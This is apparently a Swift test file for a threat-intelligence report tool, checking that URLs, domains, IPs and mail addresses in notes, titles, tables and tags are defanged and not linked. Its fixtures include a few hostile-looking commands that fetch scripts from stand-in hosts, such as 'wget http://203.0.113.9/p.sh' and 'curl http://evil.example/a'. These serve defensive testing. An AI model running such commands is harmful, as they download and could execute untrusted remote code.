import DossierTestSupport
import DossierCore
import DossierReport
import Foundation
import Testing

/// PRODUCT.md §4: network indicators are shown defanged unless `--no-defang`. That holds for the
/// prose of a report (summary, notes, comments) as for its tables, and a note's link to a recorded
/// threat is no link.
@Suite("Defanged prose")
struct DefangTests {
    @Test("a link inside a link that drops its text (an image in a threat's link, its text its address) goes with it, without a crash; the note's other links lead where they should")
    func relativeLinkInsideDroppedLink() {
        let links = CommonMark.RelativeLinks(anchor: "note-1") { _ in nil }
        for note in ["## Details\n\n[![http:x](#details)](http:x) and [the details](#details).\n",
                     "## Details\n\n| a | b |\n|---|---|\n| [![http:x](#details)](http:x) | [the details](#details) |\n"] {
            let (html, markdown) = CommonMark.rendered(note, defanging: CommonMark.Defanging(), links: links)
            #expect(html.contains(##"<a href="#note-1-details">the details</a>"##) && html.contains("hxxp:x"), "\(html)")
            #expect(markdown.contains("[the details](#note-1)") && !markdown.contains("(http:x)"), "\(markdown)")
        }
        // Without relative links too: an image in such a link crashed the renderer.
        #expect(CommonMark.html("[![http:x](a.png)](http:x) [![http://evil.example/](b.png)](http://evil.example/)", defanging: CommonMark.Defanging())
            .contains("hxxp:x"))
    }

    @Test("a note's link to a URL, host or domain another project records as a threat, or to another page of a threat URL's host, is no link, in HTML and Markdown; a verdict of non-malicious there, or the report's own project alone, keeps it")
    func threatRecordedElsewhereIsNoLink() throws {
        func project(_ slug: String, indicators: [Indicator], notes: [Note] = []) -> Project {
            Project(slug: slug, folder: "/w/" + slug, title: slug, visibility: .public, tlp: .clear, indicators: indicators, notes: notes)
        }
        let note = Note(fileName: "01-kit.md", path: "/w/writeup/notes/01-kit.md", body: """
            The kit was [served here](https://login.kit-host.example/portal) and mailed from
            [the sender](mailto:payroll@lure-mail.example). See [the vendor's write-up](https://research.example/kit).
            The panel answered on [plain http](http://panel.example/login) and [the page's scheme](//panel.example/login#form);
            its [admin page](https://panel.example/admin) too. The [kit's guide](https://files.example/guide) was recorded with its step.

            """)
        func rendered(_ kitHost: Classification, _ sender: Classification) -> (html: String, markdown: String) {
            let workspace = Workspace(root: "/w", settings: WorkspaceSettings(title: "W", vocabulary: .starter), projects: [
                project("writeup", indicators: [Indicator(value: "198.51.100.7", type: .ipv4, classification: .malicious)], notes: [note]),
                project("hunting", indicators: [
                    Indicator(value: "kit-host.example", type: .domain, classification: kitHost),
                    Indicator(value: "payroll@lure-mail.example", type: .email, classification: sender),
                    Indicator(value: "research.example", type: .domain, classification: .nonMalicious),
                    Indicator(value: "https://panel.example/login", type: .url, classification: kitHost),
                    Indicator(value: "https://files.example/guide#step-2", type: .url, classification: kitHost),
                ]),
            ])
            let report = ProjectReport(project: workspace.projects[0], workspace: workspace, index: IndicatorIndex(workspace, scope: .correlations),
                audience: .public, options: ReportOptions(), position: 0)
            let view = try! #require(report.notes.first)
            return (view.html, view.markdown)
        }
        let threats = rendered(.malicious, .suspicious)
        #expect(!threats.html.contains("href=\"https://login.kit-host.example") && threats.html.contains("served here (hxxps://login[.]kit-host[.]example/portal)"),
            "\(threats.html)")
        #expect(!threats.html.contains("mailto:") && threats.html.contains("the sender (payroll[@]lure-mail[.]example)"), "\(threats.html)")
        #expect(!threats.markdown.contains("](https://login.kit-host") && !threats.markdown.contains("](mailto:"), "\(threats.markdown)")
        // The recorded https:// page, linked by http:// or the page's own scheme, with a fragment.
        #expect(!threats.html.contains("href=\"http://panel") && !threats.html.contains("href=\"//panel"), "\(threats.html)")
        // Another page of a host where a threat's URL is recorded, and a URL recorded with a fragment.
        #expect(!threats.html.contains("href=\"https://panel.example/admin") && threats.html.contains("admin page (hxxps://panel[.]example/admin)"),
            "\(threats.html)")
        #expect(!threats.html.contains("href=\"https://files.example") && !threats.markdown.contains("](https://files.example"), "\(threats.html)")
        // A reference another project cleared stays a link.
        #expect(threats.html.contains(#"<a href="https://research.example/kit">the vendor"#), "\(threats.html)")
        let cleared = rendered(.nonMalicious, .nonMalicious)
        #expect(cleared.html.contains(#"<a href="https://login.kit-host.example/portal">served here</a>"#), "\(cleared.html)")
        #expect(cleared.html.contains(#"<a href="mailto:payroll@lure-mail.example">"#), "\(cleared.html)")
        #expect(cleared.html.contains(#"<a href="https://panel.example/admin">"#) && cleared.html.contains(#"<a href="https://files.example/guide">"#),
            "\(cleared.html)")
    }

    @Test("a mail link to a threat is no link whichever way it writes the address (several, escaped, cc, to); a web link with a fragment is the URL it fetches; an image in a link is its text, no link within a link")
    func mailLinksFragmentsAndImagesInLinks() throws {
        let defanging = CommonMark.Defanging { value, _ in ["x@lure.example", "https://kit.example/x"].contains(value) }
        for link in ["mailto:ok@good.example,x@lure.example", "mailto:x%40lure.example", "mailto:ok@good.example?cc=x@lure.example", "mailto:?to=x@lure.example",
                     "mailto:ok@good.example%2Cx@lure.example", "mailto:%22Name%22%20%3Cx@lure.example%3E", "mailto:x@lure.example#top",
                     "mailto:?c%63=x@lure.example", "mailto:ok@good.example;x@lure.example"] {
            let (html, markdown) = CommonMark.rendered("Write [them](\(link)).\n", defanging: defanging)
            #expect(!html.contains("href") && html.contains("x[@]lure[.]example"), "\(link): \(html)")
            #expect(!markdown.contains("](mailto:"), "\(link): \(markdown)")
        }
        let fragment = CommonMark.html("See [the kit](https://kit.example/x#top).\n", defanging: defanging)
        #expect(!fragment.contains("href"), "\(fragment)")
        // A mail link to no threat stays a link.
        #expect(CommonMark.html("Write [us](mailto:ok@good.example?cc=soc@good.example).\n", defanging: defanging).contains("href=\"mailto:"))
        let nested = CommonMark.html("[![pic](https://img.example/i.png)](https://imglink.example/y)\n", defanging: defanging)
        #expect(nested.components(separatedBy: "<a ").count == 2 && !nested.contains("img.example/i.png\""), "\(nested)")
        #expect(nested.contains(#"<a href="https://imglink.example/y">pic</a>"#), "\(nested)")
        // A link in an image's description is text: no link within the image's.
        let described = CommonMark.html("![see [inner](https://site.example/z) text](https://img.example/i.png)\n", defanging: defanging)
        #expect(described.components(separatedBy: "<a ").count == 2 && !described.contains("site.example/z\""), "\(described)")
        // An image with no description in a harmless link: the link stays, its text a word.
        let bare = CommonMark.html("[![](https://img.example/i.png)](https://site.example/y)\n", defanging: defanging)
        #expect(bare.contains(#"<a href="https://site.example/y">image</a>"#), "\(bare)")
    }

    static func workspace() throws -> TemporaryWorkspace {
        let workspace = try TemporaryWorkspace()
        try workspace.write("loader/project.json", """
            { "title": "Loader on gate.evil.example", "summary": "Gates on gate.evil.example since August.", "visibility": "private", "tlp": "amber" }
            """)
        try workspace.write("loader/indicators.json", """
            { "indicators": [
              { "value": "https://gate.evil.example/g.php", "type": "url", "classification": "malicious", "comment": "Resolves to 198.51.100.7" },
              { "value": "https://research.example.org/post", "type": "url", "classification": "non-malicious", "comment": "Write-up" }
            ] }
            """)
        try workspace.write("loader/notes/01-c2.md", """
            # C2

            The [gate](https://gate.evil.example/g.php) answers on 198.51.100.7; see [the write-up](https://research.example.org/post).
            Its [panel](//gate.evil.example/panel) is on the same host.

            ```
            Host: gate.evil.example
            ```
            """)
        return workspace
    }

    @Test("HTML and Markdown reports defang summary, notes and comments; --no-defang shows them as written")
    func reports() throws {
        let workspace = try Self.workspace()
        for format in [ReportFormat.html, .md] {
            let text = try ReportBuild.run(root: workspace.root, slug: "loader", format: format, audience: .internal, options: ReportOptions()).text
            #expect(!text.contains("gate.evil.example"), "\(format)")
            #expect(!text.contains("198.51.100.7"), "\(format)")
            #expect(!text.contains("(https://gate."), "\(format)")
            #expect(!text.contains("(//gate."), "a link without a scheme to the threat's host is no link (\(format))")
            #expect(text.contains("https://research.example.org/post"), "a reference stays a link (\(format))")
            let plain = try ReportBuild.run(root: workspace.root, slug: "loader", format: format, audience: .internal,
                options: ReportOptions(defang: false)).text
            #expect(plain.contains("Gates on gate.evil.example"), "\(format)")
            #expect(plain.contains("Loader on gate.evil.example"), "\(format)")
            #expect(plain.contains("Resolves to 198.51.100.7"), "\(format)")
            #expect(plain.contains("Host: gate.evil.example"), "\(format)")
        }
    }

    @Test("with defanging, a note's link to an IP address or to a download that runs or unpacks is no link, recorded or not; a reference stays a link")
    func linksToAddressesAndPayloads() {
        let defanging = CommonMark.Defanging()
        let note = "[payload](http://203.0.113.200/payload.exe), [kit](https://dl.example.net/files/kit.zip?x=1), [v6](http://[2001:db8::5]/a), [post](https://research.example.org/post.html), [site](https://example.com)\n"
        let (html, markdown) = CommonMark.rendered(note, defanging: defanging)
        #expect(html.contains("payload (hxxp://203[.]0[.]113[.]200/payload.exe)"), "\(html)")
        #expect(html.contains("kit (hxxps://dl[.]example[.]net/files/kit.zip?x=1)"), "\(html)")
        #expect(html.contains("v6 (hxxp://[2001[:]db8[:]:5]/a)"), "\(html)")
        // Markdown escapes the brackets of a defanged address.
        #expect(markdown.hasPrefix(#"payload (hxxp://203\[.\]0\[.\]113\[.\]200/payload.exe), kit (hxxps://dl\[.\]example"#), "\(markdown)")
        #expect(!markdown.contains("](http://203") && !markdown.contains("](https://dl.") && !markdown.contains("](http://["), "\(markdown)")
        #expect(html.contains(#"<a href="https://research.example.org/post.html">post</a>"#), "\(html)")
        #expect(html.contains(#"<a href="https://example.com">site</a>"#), "\(html)")
    }

    @Test("a link's or image's title is defanged as its text is, in HTML (a tooltip) and Markdown (text a mail client links), inline, by reference, in a table and in a summary; without defanging it stays as written")
    func titlesDefanged() throws {
        let note = """
            [write-up](https://www.example.com/blog "http://evil.example/login") and [ref][p] and ![shot](a.png 'seen at 198.51.100.7')

            | link |
            |---|
            | [cell](https://www.example.com/c "http://evil.example/cell") |

            [p]: https://www.example.com/x 'http://evil.example/title2'
            """
        let (html, markdown) = CommonMark.rendered(note, defanging: CommonMark.Defanging())
        for text in [html, markdown] {
            #expect(!text.contains("http://evil.example") && !text.contains("198.51.100.7"), "\(text)")
        }
        #expect(html.contains(#"title="hxxp://evil[.]example/login""#) && html.contains(#"title="hxxp://evil[.]example/title2""#), "\(html)")
        #expect(html.contains(#"title="hxxp://evil[.]example/cell""#), "\(html)")
        #expect(markdown.contains(#""hxxp://evil[.]example/login""#) || markdown.contains(#""hxxp://evil\[.\]example/login""#), "\(markdown)")
        #expect(CommonMark.html(note).contains(#"title="http://evil.example/login""#), "as written without defanging")
        let workspace = try TemporaryWorkspace()
        try workspace.addProject("p", visibility: "public", tlp: "clear",
            indicators: #"{ "indicators": [ { "value": "evil.example", "type": "domain", "classification": "malicious" } ] }"#)
        try workspace.write("p/project.json", #"""
            { "title": "p", "visibility": "public", "tlp": "clear", "summary": "See [the portal](https://www.example.com/ \"http://evil.example/sumtitle\")." }
            """#)
        for format in [ReportFormat.html, .md] {
            let text = try ReportBuild.run(root: workspace.root, slug: "p", format: format, audience: .public, options: ReportOptions()).text
            #expect(!text.contains("http://evil.example/sumtitle"), "\(format)")
        }
    }

    @Test("a free-form value that is text (other, a user agent) shows the addresses it writes defanged; a file's name stays as written")
    func freeFormValuesDefanged() throws {
        let workspace = try TemporaryWorkspace()
        try workspace.addProject("p", visibility: "public", tlp: "clear", indicators: #"""
            { "indicators": [ { "value": "wget http://203.0.113.9/p.sh", "type": "other" },
              { "value": "Mozilla/5.0 (compatible; EvilBot/1.0; +http://evil-bot.example/bot.html)", "type": "user-agent" },
              { "value": "update.zip", "type": "filename" } ] }
            """#)
        for format in [ReportFormat.html, .md] {
            let text = try ReportBuild.run(root: workspace.root, slug: "p", format: format, audience: .public, options: ReportOptions()).text
            #expect(!text.contains("http://203.0.113.9") && !text.contains("203.0.113.9/") && !text.contains("evil-bot.example"), "\(format)")
            #expect(text.contains("wget hxxp://203[.]0[.]113[.]9/p.sh") && text.contains("+hxxp://evil-bot[.]example/bot.html"), "\(format)")
            #expect(text.contains("update.zip"), "\(format)")
            let plain = try ReportBuild.run(root: workspace.root, slug: "p", format: format, audience: .public, options: ReportOptions(defang: false)).text
            #expect(plain.contains("wget http://203.0.113.9/p.sh"), "\(format)")
        }
    }

    @Test("names and descriptions the workspace gives (its title, a tag, a tag's description) are shown defanged in reports and pages; index.json keeps them as written")
    func workspaceTextsDefanged() throws {
        let workspace = try TemporaryWorkspace()
        try workspace.write("dossier.json", """
            { "title": "CTI of corp.example", "tags": { "Gateway": { "classification": "malicious", "description": "Blocked at gw.acme-corp.example and 192.0.2.1" } } }
            """)
        try workspace.addProject("p", visibility: "public", tlp: "clear", indicators: """
            { "indicators": [ { "value": "evil.example", "type": "domain", "tags": ["Gateway", "site:evil-tag.example"] } ] }
            """)
        let folder = try TemporaryFolder.make()
        defer { try? FileManager.default.removeItem(atPath: folder) }
        _ = try SiteBuild.run(root: workspace.root, audience: .public, out: folder + "/site")
        let site = SiteFiles(folder + "/site")
        for page in ["index.html", "projects/p/index.html", "projects/p/report.md", "tags/gateway.html"] {
            let text = String(decoding: site.bytes(page), as: UTF8.self)
            #expect(!text.contains("gw.acme-corp.example") && !text.contains("192.0.2.1") && !text.contains("corp.example<"), "\(page)")
            #expect(!text.contains("site:evil-tag.example"), "\(page)")
        }
        let manifest = String(decoding: site.bytes("index.json"), as: UTF8.self)
        #expect(manifest.contains("Blocked at gw.acme-corp.example and 192.0.2.1") && manifest.contains("site:evil-tag.example"))
    }

    @Test("An address with _ or * in a note stays whole: no emphasis inside it, in text, tables, links and code alike")
    func addressesKeepTheirMarks() {
        let note = """
            Dropped at http://evil.example/wp/__init__.py, then evil[.]example/a*b*c/__x__/ and 203.0.113.9/__y__.
            _See http://evil.example/x_ and **bold** stays bold.
            Code `http://code.example/__k__`, autolink <http://auto.example/__a__>, raw <a href="http://h.example/__q__">h</a>.
            A [http://l.example/__y__](https://ref.example/__z__) link.

            | URL | seen |
            |---|---|
            | http://t.example/__t__ | *twice* |
            """
        let privateUse: (String) -> Bool = { $0.unicodeScalars.contains { (0xE000...0xF8FF).contains($0.value) } }
        let html = CommonMark.html(note, defanging: CommonMark.Defanging())
        #expect(html.contains("hxxp://evil[.]example/wp/__init__.py"))
        #expect(html.contains("evil[.]example/a*b*c/__x__/"))
        #expect(html.contains("203[.]0[.]113[.]9/__y__"))
        #expect(html.contains("<em>See hxxp://evil[.]example/x</em>"))
        #expect(html.contains("<strong>bold</strong>"))
        #expect(html.contains("<code>hxxp://code[.]example/__k__</code>"))
        #expect(html.contains("<code>&lt;a href=&quot;hxxp://h[.]example/__q__&quot;&gt;</code>"))
        #expect(html.contains("<td>hxxp://t[.]example/__t__</td><td><em>twice</em></td>"))
        #expect(!html.contains("<strong>init</strong>") && !html.contains("<em>b</em>"))
        #expect(!privateUse(html))

        // As written (`--no-defang`): links keep their destinations exactly.
        let plain = CommonMark.html(note)
        #expect(plain.contains(#"<a href="http://auto.example/__a__">http://auto.example/__a__</a>"#))
        #expect(plain.contains(#"<a href="https://ref.example/__z__">http://l.example/__y__</a>"#))
        #expect(plain.contains("http://evil.example/wp/__init__.py,"))

        // The Markdown report escapes the marks, so that whoever renders it sees the address too.
        let markdown = CommonMark.commonMark(note, defanging: CommonMark.Defanging())
        #expect(markdown.contains(#"hxxp://evil\[.\]example/wp/\_\_init\_\_.py"#))
        #expect(!privateUse(markdown))
        #expect(CommonMark.html(markdown).contains("hxxp://evil[.]example/wp/__init__.py"))

        // A note holding the private-use characters itself keeps them, and reads as before.
        let odd = "Mark \u{E000} at http://evil.example/__x__"
        #expect(CommonMark.html(odd).contains("Mark \u{E000} at http://evil.example/<strong>x</strong>"))
    }

    @Test("a defanged value in a right-to-left note is isolated left to right (text and table cells), not in its tags' attributes; written as it is, nothing is added")
    func rightToLeftNotes() {
        let (lri, pdi) = ("\u{2066}", "\u{2069}")
        let note = "השרת 192.0.2.7 היה פעיל.\n\n| כתובת | הערה |\n|---|---|\n| evil.example | דומיין |\n"
        let html = CommonMark.html(note, defanging: CommonMark.Defanging())
        #expect(html.contains("השרת \(lri)192[.]0[.]2[.]7\(pdi) היה"), "\(html)")
        #expect(html.contains("<td>\(lri)evil[.]example\(pdi)</td>"), "\(html)")
        #expect(!html.contains("U+2066"))
        #expect(!CommonMark.html(note).contains(lri), "not defanged, nothing to isolate")
        #expect(!CommonMark.html("Server 192.0.2.7 was up.", defanging: CommonMark.Defanging()).contains(lri))
        // Code is copied to be run: it keeps no invisible character, inline or in a block.
        let code = "השרת `curl http://evil.example/a` פעיל.\n\n```\nwget http://evil.example/b\n```\n\nגם 192.0.2.8 היה.\n"
        let coded = CommonMark.html(code, defanging: CommonMark.Defanging())
        #expect(coded.contains("<code>curl hxxp://evil[.]example/a</code>") && coded.contains("wget hxxp://evil[.]example/b\n</code></pre>"), "\(coded)")
        #expect(coded.contains("\(lri)192[.]0[.]2[.]8\(pdi)"), "\(coded)")
    }
}
